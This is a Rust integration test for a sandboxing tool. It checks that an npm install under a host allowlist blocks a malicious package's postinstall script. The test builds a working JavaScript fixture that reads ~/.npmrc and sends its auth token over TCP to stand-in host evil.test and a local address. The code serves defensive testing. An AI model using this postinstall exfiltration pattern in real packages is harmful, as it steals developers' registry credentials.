//! A real client under `allow_hosts`: `npm install` from a local registry on an allowed name,
//! under the rules of `examples/npm_audit.toml` with the network switched to `allow = false`
//! plus `allow_hosts = ["good.test"]`. One package installs; another one's postinstall script
//! tries to send `~/.npmrc` to `evil.test` and to 127.0.0.3 directly, and must deliver nothing.
//!
//! Runs on the host in degraded mode (the cgroup socket programs need no BPF LSM), in a
//! network and name configuration of the test's own (`tests/test_network`); skipped when
//! `npm` is not installed.

mod common;
mod dns_cases;
mod probe;
mod test_network;

use std::{
    io::{BufRead as _, BufReader, Read as _},
    net::{SocketAddr, TcpListener},
    path::{Path, PathBuf},
    process::{Child, Command, Output, Stdio},
    sync::{Arc, Mutex, mpsc},
};

use common::{
    InCi, Scratch, describe, find_program, of_type, read_jsonl, sandtrace, skip, wait_until,
};
use dns_cases::{REFUSED_NAME_RESPONSE, dns_events, network_events};
use probe::DEADLINE;
use serde_json::Value;
use test_network::{EVIL, EVIL_ADDRESS, GOOD, GOOD_ADDRESS, TestNetwork, World};

/// The token in `~/.npmrc` that the evil package tries to send away.
const TOKEN: &str = "npm_s3cr3tT0kenF0rTheTest";

#[test]
fn npm_installs_from_an_allowed_registry_and_its_scripts_cannot_send_npmrc_away() {
    let test = "npm_installs_from_an_allowed_registry_and_its_scripts_cannot_send_npmrc_away";
    let Some(npm) = find_program("npm") else {
        skip(test, "npm is not installed", InCi::MayLack);
        return;
    };
    let world = World::new("npm");
    let collector = world.net.inside(|| Collector::start(EVIL_ADDRESS));
    let scratch = Scratch::new("npm-files");
    let packages = scratch.path("packages");
    std::fs::create_dir(&packages).unwrap();
    build_package(
        &packages,
        "good-pkg",
        "{\"name\":\"good-pkg\",\"version\":\"1.0.0\",\"main\":\"index.js\"}",
        &[("index.js", "module.exports = 'good';\n")],
    );
    build_package(
        &packages,
        "evil-pkg",
        "{\"name\":\"evil-pkg\",\"version\":\"1.0.0\",\
         \"scripts\":{\"postinstall\":\"node exfiltrate.js\"}}",
        &[("exfiltrate.js", &exfiltrate_script(collector.port))],
    );
    let registry = Registry::start(&world.net, &packages);
    let registry_url = format!("http://{GOOD}:{}/", registry.port);

    // Without sandtrace both packages install and the script delivers the token twice: by
    // name and by address.
    let outside = Project::new(&scratch, "outside", &registry_url);
    let out = world
        .net
        .command(&npm)
        .args(outside.npm_install(&registry_url))
        .current_dir(&outside.dir)
        .env("HOME", &outside.home)
        .stdin(Stdio::null())
        .output()
        .expect("running npm");
    assert!(
        out.status.success(),
        "npm without sandtrace: {}",
        describe(&out)
    );
    assert!(outside.installed("good-pkg") && outside.installed("evil-pkg"));
    let stdout = String::from_utf8_lossy(&out.stdout);
    for target in [EVIL, EVIL_ADDRESS] {
        assert!(
            stdout.contains(&format!("EXFILTRATE {target}: sent")),
            "without sandtrace the script reaches {target}: {}",
            describe(&out)
        );
    }
    assert!(
        wait_until(DEADLINE, || collector.received().matches(TOKEN).count()
            == 2),
        "without sandtrace the token arrives twice: {:?}",
        collector.received()
    );
    collector.clear();
    let upstream = world.upstream.take_queries();
    assert!(
        upstream.iter().any(|q| q.contains(EVIL)),
        "without sandtrace the script looks {EVIL} up: {upstream:?}"
    );

    // In the session: the registry is reachable by its name, the script's attempts fail.
    let inside = Project::new(&scratch, "inside", &registry_url);
    let policy = scratch.path("npm_audit_hosts.toml");
    std::fs::write(&policy, npm_policy()).unwrap();
    let log = scratch.path("events.jsonl");
    let mut cmd = sandtrace();
    cmd.args(["run", "--allow-degraded", "-v", "--policy"])
        .arg(&policy)
        .arg("-o")
        .arg(&log)
        .arg("--")
        .arg(&npm)
        .args(inside.npm_install(&registry_url))
        .current_dir(&inside.dir)
        .env("HOME", &inside.home)
        .stdin(Stdio::null());
    world.net.enter(&mut cmd);
    let out: Output = cmd.output().expect("running sandtrace");
    assert!(
        out.status.success(),
        "npm in the session: {}",
        describe(&out)
    );
    assert!(inside.installed("good-pkg") && inside.installed("evil-pkg"));
    let stdout = String::from_utf8_lossy(&out.stdout);
    for target in [EVIL, EVIL_ADDRESS] {
        let attempt = stdout
            .lines()
            .find(|l| l.starts_with(&format!("EXFILTRATE {target}: ")))
            .unwrap_or_else(|| panic!("the script did not try {target}: {}", describe(&out)));
        assert!(!attempt.ends_with("sent"), "{attempt}");
    }
    assert_eq!(
        collector.received(),
        "",
        "the session delivered something to {EVIL_ADDRESS}"
    );
    assert_eq!(collector.connections(), 0, "a connection got through");

    let events = read_jsonl(&log);
    let registry_queries = dns_events(&events, GOOD);
    assert!(
        registry_queries
            .iter()
            .any(|q| q["action"] == "allow" && q["answers"] == serde_json::json!([GOOD_ADDRESS])),
        "{registry_queries:#?}"
    );
    let registry_address: SocketAddr = format!("{GOOD_ADDRESS}:{}", registry.port).parse().unwrap();
    let to_registry = network_events(&events, "connect", registry_address);
    assert!(
        to_registry
            .iter()
            .any(|e| e["action"] == "allow" && e["host"] == GOOD),
        "{to_registry:#?}"
    );
    // The script runs in the example's "install scripts" regime, which has no network: its
    // lookup of evil.test never reaches the session's resolver (a query's name is data too),
    // the kernel refuses the DNS send itself.
    let evil_queries = dns_events(&events, EVIL);
    assert!(
        evil_queries
            .iter()
            .all(|q| q["action"] == "deny" && q["response"] == REFUSED_NAME_RESPONSE),
        "{evil_queries:#?}"
    );
    let refused_dns: Vec<&Value> = of_type(&events, "network")
        .into_iter()
        .filter(|e| e["port"] == 53 && e["action"] == "deny")
        .collect();
    assert!(
        !refused_dns.is_empty() && refused_dns.iter().all(|e| e["regime"] == "install scripts"),
        "{refused_dns:#?}"
    );
    let evil_address: SocketAddr = format!("{EVIL_ADDRESS}:{}", collector.port)
        .parse()
        .unwrap();
    let to_evil = network_events(&events, "connect", evil_address);
    assert!(
        !to_evil.is_empty() && to_evil.iter().all(|e| e["action"] == "deny"),
        "{to_evil:#?}"
    );
    let upstream = world.upstream.take_queries();
    assert!(
        !upstream.iter().any(|q| q.contains(EVIL)),
        "a query for {EVIL} left the session: {upstream:?}"
    );
    assert!(
        upstream.iter().any(|q| q.contains(GOOD)),
        "the session's resolver looks the registry up: {upstream:?}"
    );
}

/// `examples/npm_audit.toml` with the network limited to `good.test`, and a shell in
/// `allow_exec` (npm runs scripts with `sh -c`).
fn npm_policy() -> String {
    let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/npm_audit.toml");
    let text = std::fs::read_to_string(&example).unwrap();
    let mut policy: toml::Table = text.parse().expect("examples/npm_audit.toml parses");
    let mut network = toml::Table::new();
    network.insert("allow".into(), false.into());
    network.insert("allow_hosts".into(), vec![GOOD].into());
    policy.insert("network".into(), network.into());
    toml::to_string(&policy).unwrap()
}

/// The postinstall script: reads `~/.npmrc` and sends it to `evil.test` and to 127.0.0.3,
/// printing `EXFILTRATE TARGET: sent` or the error's code for each.
fn exfiltrate_script(port: u16) -> String {
    format!(
        r#"const fs = require("fs"), net = require("net"), os = require("os");
const secret = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
let left = 2;
for (const host of ["{EVIL}", "{EVIL_ADDRESS}"]) {{
  const socket = net.connect({{ host, port: {port} }}, () => {{
    socket.end(secret, () => console.log(`EXFILTRATE ${{host}}: sent`));
  }});
  socket.on("error", (e) => console.log(`EXFILTRATE ${{host}}: ${{e.code}}`));
  socket.on("close", () => {{ if (--left === 0) process.exit(0); }});
}}
"#
    )
}

/// Writes `DIR/NAME.json` (the manifest) and `DIR/NAME.tgz` (an npm tarball: the files under
/// `package/`).
fn build_package(dir: &Path, name: &str, manifest: &str, files: &[(&str, &str)]) {
    let source = dir.join(format!("{name}-source"));
    let package = source.join("package");
    std::fs::create_dir_all(&package).unwrap();
    std::fs::write(package.join("package.json"), manifest).unwrap();
    for (file, text) in files {
        std::fs::write(package.join(file), text).unwrap();
    }
    std::fs::write(dir.join(format!("{name}.json")), manifest).unwrap();
    let out = Command::new("tar")
        .arg("czf")
        .arg(dir.join(format!("{name}.tgz")))
        .arg("-C")
        .arg(&source)
        .arg("package")
        .output()
        .expect("running tar");
    assert!(out.status.success(), "tar: {}", describe(&out));
}

/// A project directory and a home directory with an `.npmrc` holding [`TOKEN`].
struct Project {
    dir: PathBuf,
    home: PathBuf,
}

impl Project {
    fn new(scratch: &Scratch, name: &str, registry_url: &str) -> Self {
        let dir = scratch.path(&format!("{name}-project"));
        let home = scratch.path(&format!("{name}-home"));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::create_dir_all(&home).unwrap();
        std::fs::write(
            dir.join("package.json"),
            format!("{{\"name\":\"{name}-project\",\"version\":\"1.0.0\",\"private\":true}}"),
        )
        .unwrap();
        let host = registry_url.trim_start_matches("http:");
        std::fs::write(home.join(".npmrc"), format!("{host}:_authToken={TOKEN}\n")).unwrap();
        Self { dir, home }
    }

    /// npm's arguments: install both packages from the registry, scripts in the foreground
    /// (their output on npm's stdout), nothing else asked of any server.
    fn npm_install(&self, registry_url: &str) -> Vec<String> {
        [
            "install",
            "--registry",
            registry_url,
            "--foreground-scripts",
            "--no-audit",
            "--no-fund",
            "--no-update-notifier",
            "good-pkg",
            "evil-pkg",
        ]
        .map(str::to_owned)
        .to_vec()
    }

    fn installed(&self, package: &str) -> bool {
        self.dir
            .join("node_modules")
            .join(package)
            .join("package.json")
            .exists()
    }
}

/// The registry (`tests/npm/registry.js` under node) on an ephemeral port of `good.test`'s
/// address in the test's network; killed when dropped.
struct Registry {
    port: u16,
    child: Child,
}

impl Registry {
    fn start(net: &TestNetwork, packages: &Path) -> Self {
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/npm/registry.js");
        let mut child = net
            .command("node")
            .arg(script)
            .arg(packages)
            .arg(GOOD_ADDRESS)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .spawn()
            .expect("starting the registry with node");
        let stdout = child.stdout.take().unwrap();
        let (send, ready) = mpsc::channel();
        std::thread::spawn(move || {
            let line = BufReader::new(stdout).lines().next();
            let port = line.and_then(Result::ok).and_then(|l| {
                l.strip_prefix("ready ")
                    .and_then(|port| port.trim().parse::<u16>().ok())
            });
            let _ = send.send(port);
        });
        let port = ready.recv_timeout(DEADLINE).ok().flatten();
        // Owned by a `Registry` first, so that the panic below kills it.
        let mut registry = Self { port: 0, child };
        registry.port =
            port.expect("the registry did not print `ready PORT` (its stderr is above)");
        registry
    }
}

impl Drop for Registry {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A TCP listener that keeps everything sent to it.
struct Collector {
    port: u16,
    connections: Arc<Mutex<usize>>,
    received: Arc<Mutex<Vec<u8>>>,
}

impl Collector {
    /// Listens on an ephemeral port of `ip` (call it inside the test's network).
    fn start(ip: &str) -> Self {
        let listener = TcpListener::bind((ip, 0)).expect("binding the collector");
        let port = listener.local_addr().unwrap().port();
        let connections = Arc::new(Mutex::new(0));
        let received = Arc::new(Mutex::new(Vec::new()));
        let (count, keep) = (Arc::clone(&connections), Arc::clone(&received));
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                *count.lock().unwrap() += 1;
                let keep = Arc::clone(&keep);
                std::thread::spawn(move || {
                    let mut data = Vec::new();
                    let _ = stream.read_to_end(&mut data);
                    keep.lock().unwrap().extend(data);
                });
            }
        });
        Self {
            port,
            connections,
            received,
        }
    }

    fn received(&self) -> String {
        String::from_utf8_lossy(&self.received.lock().unwrap()).into_owned()
    }

    fn connections(&self) -> usize {
        *self.connections.lock().unwrap()
    }

    fn clear(&self) {
        self.received.lock().unwrap().clear();
        *self.connections.lock().unwrap() = 0;
    }
}
